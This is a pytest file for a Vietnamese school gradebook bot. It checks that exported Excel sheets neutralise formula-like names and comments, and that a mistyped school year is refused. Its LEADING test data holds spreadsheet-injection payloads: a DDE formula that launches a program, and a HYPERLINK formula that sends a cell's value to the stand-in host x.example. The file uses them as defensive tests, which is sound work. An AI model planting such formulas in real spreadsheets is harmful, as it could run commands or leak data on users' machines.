"""Hostile values going out (issue 12, point 6): exports never hand a spreadsheet a formula,
and a command that reads never writes.

A text that starts with = + - @ (or a tab, a carriage return, a full-width ＝) is run as a
formula by Excel or LibreOffice as soon as the cell is edited or the sheet saved as CSV: a
student's name "=HYPERLINK(...)" kept from an old file, a comment "- Chăm ngoan" or "@bạn
Bình". Each case stores such a text where a sheet the school downloads shows it (a student's
name in the teacher's grade sheet and in the homeroom sheet, a comment, the school's name in
the title), builds the sheet, and checks that no part of the file holds a formula, that the
cell is a text cell with Excel's quote prefix, that it reads back as exactly what is stored,
and that the sheet still carries its Vietnamese title and guide; nothing is written but the
audited read, within a time and memory bound. A grade sheet sent back unchanged writes nothing.

Then `hocba results`, `hocba calendar show` and `hocba import` with a mistyped --year: refused
in Vietnamese, naming the years the school has, and no year is created (issue 12: it used to
be created, and became everyone's latest year).
"""

from __future__ import annotations

import io
import re
import sqlite3
import zipfile
from collections.abc import Awaitable, Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from bot.cli import main
from core import clock
from core.importing import import_teacher_sheet
from core.models import AuditEvent, School, Student
from core.services import gradebook
from core.services.homeroom_sheet import homeroom_template
from core.services.sheet_workbook import Template
from core.services.templates import grade_sheet_template
from core.workers import WorkerPool
from tests.conftest import DURING_2025_2026
from tests.deadlines.conftest import Small, build_small
from tests.hostile.conftest import bounded, worker_bounded
from tests.integration.fixtures_sheets import counts, students_xlsx

SECONDS = 10.0  # a sheet of four students is built in well under a second
TRACED_MIB = 32.0  # Python allocations in this process
WORKER_MIB = 250.0  # the worker that builds the sheet (about 110 MiB with its libraries)
CLI_SECONDS = 20.0
CLI_TRACED_MIB = 40.0

# OWASP's "CSV injection" list, as schools' data could hold it.
LEADING = {
    "equals": "=1+1",
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://x.example/?"&C6,"Xem điểm")',
    "plus": "+84 912 345 678",
    "minus": "-2+3",
    "at": "@SUM(D6:D9)",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "full-width-equals": "＝1+1",
}
COMMENTS = {  # what a homeroom teacher writes (a comment is stripped of leading spaces)
    "dash-list": "- Chăm ngoan, lễ phép\n- Cần cố gắng môn Toán",
    "plus-list": "+ Tiến bộ rõ rệt",
    "mention": "@Bình: nhắc em nộp bài",
    "smiley": "=)) Vui vẻ, hòa đồng",
}
STUDENT = "Nguyễn Văn An"


@pytest.fixture
async def small(sqlite_db: str) -> Small:
    """The small school of the deadline tests (6A: An, Bình, Chi), during term I."""
    small = await build_small("2025-2026")
    clock.set_time(DURING_2025_2026)
    return small


async def _stored_name(small: Small, text: str) -> None:
    """An's name as an older version of the bot, or another program, left it in the
    database: the import refuses such a name today, an export must still be safe with it."""
    await Student.filter(id=small.students[STUDENT]).update(full_name=text)


async def _grade_sheet(small: Small, workers: WorkerPool) -> Template:
    teacher = await small.actor("GV01")
    return await grade_sheet_template(
        teacher, small.classes["6A"], small.subjects["TOAN"], small.terms[1], workers=workers
    )


async def _homeroom_sheet(small: Small, workers: WorkerPool) -> Template:
    teacher = await small.actor("GV03")
    return await homeroom_template(teacher, small.classes["6A"], small.terms[1], workers=workers)


async def _comment(small: Small, text: str) -> None:
    teacher = await small.actor("GV03")
    entry = gradebook.CommentEntry(
        small.students[STUDENT], small.classes["6A"], small.terms[1], text
    )
    await gradebook.write_comments(teacher, [entry])


def _formulas(data: bytes) -> list[str]:
    """Every formula element in any worksheet of the file."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        return [
            found.decode()
            for name in sheets
            for found in re.findall(rb"<(?:\w+:)?f[\s>/][^<]*", package.read(name))
        ]


def _texts_read_back(data: bytes) -> list[str]:
    """Every text cell as a spreadsheet reader (calamine) gives it back."""
    with CalamineWorkbook.from_filelike(io.BytesIO(data)) as book:
        return [
            cell
            for name in book.sheet_names
            for row in book.get_sheet_by_name(name).to_python()
            for cell in row
            if isinstance(cell, str)
        ]


def _assert_inert(data: bytes, text: str, says: str) -> None:
    """No formula anywhere; `text` is a quote-prefixed text cell, read back as it is stored;
    the sheet's Vietnamese `says` is there."""
    assert _formulas(data) == []
    book = load_workbook(io.BytesIO(data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == text]
    assert cells, f"{text!r} is not in the sheet"
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.data_type)
    texts = _texts_read_back(data)
    assert text in texts
    assert any(says in t for t in texts), says


async def _exported(
    small: Small, workers: WorkerPool, build: Callable[[], Awaitable[Template]]
) -> bytes:
    """The sheet, built within the bounds, having written nothing but the audited read."""
    before = await counts()
    async with worker_bounded(workers, WORKER_MIB):
        with bounded(SECONDS, TRACED_MIB):
            template = await build()
    after = await counts()
    reads = await AuditEvent.filter(seq__gt=before["AuditEvent"]).values_list("action", flat=True)
    assert all(action.endswith(".read") for action in reads), reads
    assert {**after, "AuditEvent": before["AuditEvent"]} == before
    return template.data


@pytest.mark.parametrize("lead", list(LEADING))
async def test_a_name_in_the_teachers_grade_sheet_is_never_a_formula(
    lead: str, small: Small, workers: WorkerPool
) -> None:
    await _stored_name(small, LEADING[lead])
    data = await _exported(small, workers, lambda: _grade_sheet(small, workers))
    _assert_inert(data, LEADING[lead], "Điền vào các ô trống của trang «Bảng điểm»")


@pytest.mark.parametrize("lead", ["equals", "minus", "at", "full-width-equals"])
async def test_a_name_in_the_homeroom_sheet_is_never_a_formula(
    lead: str, small: Small, workers: WorkerPool
) -> None:
    await _stored_name(small, LEADING[lead])
    data = await _exported(small, workers, lambda: _homeroom_sheet(small, workers))
    _assert_inert(data, LEADING[lead], "BẢNG CHỦ NHIỆM")


@pytest.mark.parametrize("comment", list(COMMENTS))
async def test_a_comment_in_the_homeroom_sheet_is_never_a_formula(
    comment: str, small: Small, workers: WorkerPool
) -> None:
    await _comment(small, COMMENTS[comment])
    data = await _exported(small, workers, lambda: _homeroom_sheet(small, workers))
    _assert_inert(data, COMMENTS[comment], "BẢNG CHỦ NHIỆM")


async def test_the_schools_name_in_the_title_is_never_a_formula(
    small: Small, workers: WorkerPool
) -> None:
    await School.filter(id=small.school.id).update(name='=HYPERLINK("http://x","Trường")')
    data = await _exported(small, workers, lambda: _grade_sheet(small, workers))
    _assert_inert(data, '=HYPERLINK("HTTP://X","TRƯỜNG")', "BẢNG ĐIỂM")


async def test_a_grade_sheet_sent_back_unchanged_writes_nothing(
    small: Small, workers: WorkerPool
) -> None:
    """The quote prefix changes no value: the teacher's round trip of a sheet holding a
    formula-like name and comment-like texts finds every student and changes nothing."""
    await _stored_name(small, LEADING["minus"])
    data = await _exported(small, workers, lambda: _grade_sheet(small, workers))
    teacher = await small.actor("GV01")
    before = await counts()
    with bounded(SECONDS, TRACED_MIB):
        report = await import_teacher_sheet(teacher, data, "bang-diem.xlsx", workers=workers)
    assert await counts() == before, report.summary()


# ----------------------------------------------------------- a command that reads never writes


def _school_database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A school with its year 2025-2026 and its class list, made by the command line."""
    monkeypatch.chdir(tmp_path)
    for name in ("HOCBA_CONFIG", "HOCBA_DATABASE_URL", "HOCBA_SCHOOL_CODE", "HOCBA_TELEGRAM_TOKEN"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOCBA_WORKERS_PROCESSES", "1")
    level = ("--level", "lower_secondary")
    assert (
        main(["--year", "2025-2026", "init", "--code", "THCS-DA", "--name", "Đại An", *level]) == 0
    )
    (tmp_path / "ds.xlsx").write_bytes(students_xlsx())
    assert main(["import", "students", "ds.xlsx"]) == 0
    return tmp_path / "var" / "hocba.sqlite3"


def _rows(database: Path) -> dict[str, int]:
    with sqlite3.connect(database) as db:
        tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        return {t: db.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0] for t in tables}


READS = {
    "results": ("results", "6A"),
    "calendar-show": ("calendar", "show"),
    "import-into-a-year-that-is-not": ("import", "students", "ds.xlsx"),
}


@pytest.mark.parametrize("command", list(READS))
def test_a_mistyped_year_is_refused_not_created(
    command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    database = _school_database(tmp_path, monkeypatch)
    before = _rows(database)
    capsys.readouterr()
    with bounded(CLI_SECONDS, CLI_TRACED_MIB):
        code = main(["--year", "2052-2053", *READS[command]])
    out, err = capsys.readouterr()
    assert code == 1, out
    assert "chưa có năm học 2052-2053 (đã có: 2025-2026)" in err, err
    assert "Kiểm tra lại --year" in err
    assert _rows(database) == before
